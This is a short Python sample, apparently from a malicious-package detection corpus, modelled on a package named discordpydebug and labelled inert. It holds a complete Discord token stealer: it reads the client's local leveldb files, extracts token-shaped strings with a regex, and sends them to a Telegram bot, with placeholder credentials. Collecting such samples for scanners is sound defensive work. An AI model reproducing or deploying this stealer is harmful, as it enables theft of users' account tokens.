# pkgguard corpus 262 (discord-token), modelled on [discordpydebug]; inert, never run.
import os
import re

import requests

TOKEN = "0000000000:placeholderplaceholderplaceholder000"
root = os.path.join(os.getenv("APPDATA", ""), "discordcanary", "Local Storage", "leveldb")
found = []
for name in os.listdir(root):
    if name.endswith((".log", ".ldb")):
        with open(os.path.join(root, name), errors="ignore") as f:
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read())
requests.get(f"https://api.telegram.org/bot{TOKEN}/sendMessage", params={"chat_id": "0", "text": "\n".join(found)})
